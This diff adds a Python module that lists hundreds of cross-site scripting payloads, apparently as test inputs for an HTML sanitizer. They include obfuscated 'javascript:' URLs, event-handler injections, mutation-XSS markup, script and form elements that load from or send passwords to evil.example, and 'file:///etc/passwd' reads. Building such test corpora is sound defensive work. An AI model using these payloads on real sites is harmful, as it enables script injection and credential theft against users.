@@ -1,0 +1,143 @@
+"""HTML that tries to run a script, to leave its place, or to load something: what a browser would do with `alert`."""
+
+from __future__ import annotations
+
+CALL = "alert(1)"
+
+#: Addresses that are none, in the ways in which they have been hidden from those who look for "javascript:".
+ADDRESSES = [
+    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" \n javascript:{CALL}", f"java\tscript:{CALL}",
+    f"java\nscript:{CALL}", f"java\rscript:{CALL}", f"java\0script:{CALL}",
+    f"\x01javascript:{CALL}", f"\x1fjavascript:{CALL}", f"javascript\t:{CALL}",
+    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"&#0000106avascript:{CALL}",
+    f"javascript&colon;{CALL}", f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}",
+    f"javascript://example.org/%0a{CALL}", f"\ufeffjavascript:{CALL}", f"\u2028javascript:{CALL}",
+    f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}", "javascript&#58;alert&#40;1&#41;",
+    f"vbscript:{CALL}", f"livescript:{CALL}", "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DATA:image/svg+xml,<svg onload=alert(1)>", "//evil.example/", "/\\evil.example/",
+    "\\\\evil.example\\", "/\t/evil.example/", "/\n/evil.example", "https:evil.example",
+    "blob:https://evil.example/1", "file:///etc/passwd", "mhtml:http://evil.example/!x",
+    "jar:https://evil.example!/x", "https://a.example/\"onmouseover=\"alert(1)",
+    "https://a.example/'onmouseover='alert(1)", "mailto:a@a.example\" onclick=\"alert(1)",
+    "#\" onfocus=\"alert(1)\" autofocus=\"",
+]  # fmt: skip
+
+#: Where an address can stand.
+PLACES = [
+    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">',
+    '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
+    '<svg><a xlink:href="{}"><text y="20">x</text></a></svg>',
+]  # fmt: skip
+
+#: Elements that act by themselves, or for which somebody only has to move the mouse.
+EVENTS = [
+    "<img src=x onerror=alert(1)>", "<img src=x:x onerror='alert(1)' alt=>",
+    "<IMG SRC=x ONERROR=alert(1)//", "<img/src=x/onerror=alert(1)>",
+    "<img\tsrc=x\nonerror\r=\x0calert(1)>", "<img src=x onerror=&#97;lert(1)>",
+    "<img src=x oNeRrOr=alert`1`>", "<img src=`x`onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">', "<img src onerror /\" '\"= alt=alert(1)//\">",
+    "<img srcset=x onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1)></picture>",
+    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>", "<svg><g onload=alert(1)></g></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<button autofocus onfocus=alert(1)>x</button>", "<details open ontoggle=alert(1)>x</details>",
+    "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>",
+    "<audio src onloadstart=alert(1)></audio>", "<marquee onstart=alert(1)>x</marquee>",
+    "<p onmouseover=alert(1)>x</p>", "<b onclick=\"alert(1)\">x</b>",
+    "<a href=/ onmouseover=alert(1)>x</a>", "<td background=javascript:alert(1)>",
+    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
+    "<p tabindex=0 onfocus=alert(1) id=x>x</p>", "<x onclick=alert(1)>x</x>",
+    "<x-a contenteditable onblur=alert(1)>x</x-a>", "<div onpointerover=alert(1)>x</div>",
+    "<object onerror=alert(1) data=x></object>", "<li onwheel=alert(1)>x</li>",
+    "<blockquote cite=javascript:alert(1) onclick=alert(1)>x</blockquote>",
+]  # fmt: skip
+
+#: Scripts, and elements that load or rule what a page is.
+ELEMENTS = [
+    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT >",
+    "<script\x20type=text/javascript>alert(1)</script>", "<script/x>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>",
+    "<script>alert(1)", "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<script type=module>import '//evil.example/x'</script>",
+    "<script>//<![CDATA[\nalert(1)\n//]]></script>", "</p><script>alert(1)</script><p>",
+    "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
+    "<math><script>alert(1)</script></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe srcdoc=&lt;svg/onload=alert(1)&gt;></iframe>", "<iframe/src=//evil.example></iframe>",
+    "<frameset onload=alert(1)><frame src=//evil.example>", "<embed src=//evil.example/x.svg>",
+    "<object data=data:text/html,x></object>",
+    "<object><param name=movie value=javascript:alert(1)></object>", "<applet code=x></applet>",
+    "<base href=//evil.example/>", "<base target=_top>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;//evil.example'>",
+    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>p{background:url(javascript:alert(1))}</style>",
+    "<style></style><script>alert(1)</script>",
+    "<p style=\"background:url('//evil.example')\">x</p>",
+    "<p style=\"position:fixed;inset:0\">x</p>", "<p style=width:expression(alert(1))>x</p>",
+    "<form action=//evil.example><input name=password><button>Log in</button></form>",
+    "<button form=f formaction=javascript:alert(1)>x</button>",
+    "<input type=image src=x formaction=//evil.example>",
+    "<isindex action=javascript:alert(1) type=image>", "<dialog open>Log in again</dialog>",
+    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)></slot>",
+    "<portal src=//evil.example></portal>", "<bgsound src=javascript:alert(1)>",
+    "<layer src=//evil.example></layer>", "<xml id=x></xml>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "<plaintext>alert(1)", "<xmp><script>alert(1)</script></xmp>",
+    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
+    "<img id=getElementById><form id=body>", "<a id=document name=cookie href=/>x</a>",
+    "<main id=main><footer>",
+]  # fmt: skip
+
+#: Markup that becomes another when it is read, mended and read again, or that is meant to be cut in the wrong place.
+MENDED = [
+    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
+    "<math><mi><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\"></mi></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
+    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
+    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
+    "<iframe><a title=\"</iframe><img src=x onerror=alert(1)>\">",
+    "<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<select><style><img src=x onerror=alert(1)></select>",
+    "<table><td><svg><desc><table><style><img src=x onerror=alert(1)>",
+    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
+    "<svg><foreignObject><p><svg><style></p><img src=x onerror=alert(1)>",
+    "<a><a href=javascript:alert(1)>x</a></a>",
+    "<table><a href=javascript:alert(1)><tr><td>x</table>", "<!--><img src=x onerror=alert(1)>-->",
+    "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "<!DOCTYPE x><img src=x onerror=alert(1)>", "<? ><img src=x onerror=alert(1)>",
+    "</ ><img src=x onerror=alert(1)>", "</x y=\"><img src=x onerror=alert(1)>\">",
+    "<a href=\"x\"<img src=x onerror=alert(1)>", "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+    "<p x=`\"><img src=x onerror=alert(1)>`>x</p>", "<a\x0chref=javascript:alert(1)>x</a>",
+    "<a/href=javascript:alert(1)>x</a>", "<a \0href=javascript:alert(1)>x</a>",
+    "<a href=x href=javascript:alert(1)>x</a>", "<a HREF=x hReF=javascript:alert(1)>x</a>",
+    "<a xlink:href=javascript:alert(1)>x</a>",
+    "<a href=/ ping=//evil.example target=_blank download>x</a>", "\"><img src=x onerror=alert(1)>",
+    "'><script>alert(1)</script>", "\"autofocus onfocus=alert(1) x=\"",
+    "--><script>alert(1)</script>", "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "＜script＞alert(1)＜/script＞",
+    "<\u0131mg src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>",
+    "<p>{{ 7 * 7 }}${7*7}#{7*7}<%= 7 %></p>", "{% load static %}{% debug %}",
+    "[x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n[x]", "https://a.example/<script>alert(1)</script>",
+    "https://a.example/\"><img src=x onerror=alert(1)>", "*<img src=x onerror=alert(1)>*",
+    "`<img src=x onerror=alert(1)>`", "> <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>",
+    "    <svg onload=alert(1)>", "<" * 3000, "<b>" * 2000 + "x", "<a href=" * 500, "&#x" * 800,
+    "<!--" * 900, "<p " + "a=b " * 900 + ">x",
+]  # fmt: skip
+
+ATTACKS = [*(place.format(address) for place in PLACES for address in ADDRESSES), *EVENTS, *ELEMENTS, *MENDED]
